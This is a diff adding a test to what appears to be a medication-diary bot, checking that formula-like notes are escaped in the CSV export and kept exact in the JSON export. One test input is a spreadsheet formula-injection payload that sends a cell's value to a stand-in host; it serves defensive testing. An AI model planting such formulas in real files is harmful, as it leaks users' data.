@@ -4,7 +4,9 @@ weekly line and the export. The pure rules (trends, months, buttons) are tested 
 
 from __future__ import annotations
 
+import csv
 import io
+import json
 import re
 from datetime import UTC, date, datetime, timedelta
 
@@ -440,3 +442,21 @@ def test_starting_the_bot_imports_neither_matplotlib_nor_fpdf2() -> None:
     code = "import sys, bot.app; print(sorted({'matplotlib', 'fpdf'} & set(sys.modules)))"
     found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
     assert found.stdout.strip() == "[]", found.stderr
+
+
+@pytest.mark.parametrize(
+    "note", ['=HYPERLINK("http://x.example/?"&A1,"see")', "+1 pain", "-2 days", "@home"]
+)
+async def test_a_note_that_looks_like_a_formula_is_text_in_the_csv_and_exact_in_the_json(
+    anna: Person, note: str
+) -> None:
+    await anna.send("/log")
+    await log(anna, "bones", 2)
+    await anna.send(note)
+    since = len(anna.request.calls)
+    await anna.send("/export")
+    sent = dict(files(anna, since, "sendDocument"))
+    assert json.loads(sent["my-anastrozole-data.json"])["diary"][0]["note"] == note
+    [row] = list(csv.DictReader(io.StringIO(sent["my-anastrozole-diary.csv"].decode("utf-8-sig"))))
+    assert row["note"] == "'" + note
+    assert row["severity"] == "2"
